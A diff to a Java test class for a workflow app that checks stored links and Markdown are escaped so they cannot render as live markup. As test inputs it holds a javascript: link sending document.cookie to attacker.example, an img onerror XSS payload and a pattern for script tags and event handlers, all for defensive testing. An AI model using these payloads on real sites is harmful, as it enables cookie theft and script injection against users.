@@ -11,6 +11,7 @@ import org.camunda.bpm.engine.RuntimeService;
 import org.camunda.bpm.engine.TaskService;
 import org.camunda.bpm.engine.runtime.Job;
 import org.camunda.bpm.engine.runtime.ProcessInstance;
+import org.camunda.bpm.engine.task.Task;
 import org.junit.jupiter.api.Test;
 import org.springframework.boot.test.web.client.TestRestTemplate;
 import org.springframework.http.HttpStatus;
@@ -30,6 +31,9 @@ import org.un.sc1540.workflow.reporting.FirstReportReminderProcess;
  */
 @CommitteeTest
 class StoredScriptTest {
+
+  /** A character that starts a tag, a link or an image in Markdown, not escaped with a backslash. */
+  private static final Pattern UNESCAPED_MARKUP = Pattern.compile("(?<!\\\\)[<>\\[\\]()!]");
 
   private static final String HOSTILE_LINK = "javascript:fetch('https://attacker.example/?'+document.cookie)";
   private static final Pattern INLINE_CODE = Pattern.compile("<script|\\sstyle=\"|\\son[a-z]+=\"", Pattern.CASE_INSENSITIVE);
@@ -54,7 +58,7 @@ class StoredScriptTest {
   /** However it got into the table (an old row, a path around the form's check), it is not a link. */
   @Test
   void aJavascriptMatrixLinkIsNotRenderedAsALink() {
-    int year = 2041;
+    int year = 2088;
     ProcessInstance round = runtimeService.startProcessInstanceByKey(MatrixCirculation.PROCESS_KEY,
         MatrixCirculation.businessKey(year),
         Map.of(MatrixCirculation.REVIEW_YEAR, year, MatrixCirculation.STATE_CODES, "[\"ISL\"]"));
@@ -110,11 +114,16 @@ class StoredScriptTest {
     ProcessInstance cycle = runtimeService.startProcessInstanceByKey(FirstReportReminderProcess.KEY, "LSO",
         Map.of(FirstReportReminderProcess.STATE_CODE, "LSO"));
 
-    String mission = (String) runtimeService.getVariable(cycle.getId(), FirstReportReminderProcess.MISSION_ADDRESS);
-    String pocs = (String) runtimeService.getVariable(cycle.getId(), FirstReportReminderProcess.POC_ADDRESSES);
+    // The form shows the variables of the task's scope, read from the registry when the task began.
+    Task review = taskService.createTaskQuery().processInstanceId(cycle.getId()).singleResult();
+    assertThat(review).as("the note review of LSO's cycle").isNotNull();
+    String mission = (String) taskService.getVariable(review.getId(), FirstReportReminderProcess.MISSION_ADDRESS);
+    String pocs = (String) taskService.getVariable(review.getId(), FirstReportReminderProcess.POC_ADDRESSES);
 
-    assertThat(mission).doesNotContain("<a").contains("&lt;a href=&quot;https://attacker.example/&quot;&gt;")
-        .contains("\\[urgent\\]\\(https://attacker.example/\\)").contains("mission.lso@example.org");
-    assertThat(pocs).doesNotContain("<img").contains("&lt;img src=x onerror=alert\\(1\\)&gt;");
+    // Markdown shows a backslash-escaped character as itself: no tag, link or image survives.
+    assertThat(mission).contains("mission\\.lso\\@example\\.org").contains("\\<a href\\=").contains("\\[urgent\\]\\(");
+    assertThat(UNESCAPED_MARKUP.matcher(mission).find()).as(mission).isFalse();
+    assertThat(pocs).contains("\\<img src\\=x onerror\\=alert\\(1\\)\\>");
+    assertThat(UNESCAPED_MARKUP.matcher(pocs).find()).as(pocs).isFalse();
   }
 }
